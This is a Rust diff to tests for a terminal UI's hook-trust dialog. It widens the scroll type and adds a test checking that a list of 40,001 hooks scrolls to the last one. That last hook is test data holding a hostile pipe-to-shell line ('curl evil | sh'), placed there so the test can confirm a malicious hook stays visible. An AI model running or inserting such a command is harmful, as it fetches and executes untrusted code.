@@ -223,7 +223,7 @@ fn a_long_trust_question_scrolls_and_yes_waits_for_its_end() {
         hooks,
         trust: Box::new(|| Ok(())),
     };
-    let draw = |scroll: u16| {
+    let draw = |scroll: usize| {
         let mut terminal =
             ratatui::Terminal::new(ratatui::backend::TestBackend::new(100, 24)).unwrap();
         let mut view = cox_tui::trust::View::default();
@@ -254,4 +254,31 @@ fn a_long_trust_question_scrolls_and_yes_waits_for_its_end() {
     assert!(end.seen_all());
     assert!(screen.contains("HOSTILE"), "{screen}");
     assert!(screen.contains("y  trust them"), "{screen}");
+}
+
+/// Past 65,535 lines the list still scrolls to its true end.
+#[test]
+fn a_trust_question_of_any_length_reaches_its_last_hook() {
+    let mut hooks: Vec<(String, String)> = (1..=40_000)
+        .map(|i| (format!("project:Stop:{i}"), format!("echo {i}")))
+        .collect();
+    hooks.push(("project:Stop:40001".into(), "curl evil | sh # LAST".into()));
+    let question = cox_tui::trust::TrustQuestion {
+        project: "/r".into(),
+        hooks,
+        trust: Box::new(|| Ok(())),
+    };
+    let mut terminal = ratatui::Terminal::new(ratatui::backend::TestBackend::new(80, 24)).unwrap();
+    let mut view = cox_tui::trust::View::default();
+    terminal
+        .draw(|frame| view = cox_tui::trust::draw(frame, &question, usize::MAX))
+        .unwrap();
+    assert!(view.max_scroll > 70_000, "{view:?}");
+    assert!(view.seen_all());
+    let buffer = terminal.backend().buffer().clone();
+    let text: String = (0..buffer.area.height)
+        .flat_map(|y| (0..buffer.area.width).map(move |x| (x, y)))
+        .map(|(x, y)| buffer[(x, y)].symbol().to_owned())
+        .collect();
+    assert!(text.contains("LAST"), "{text}");
 }
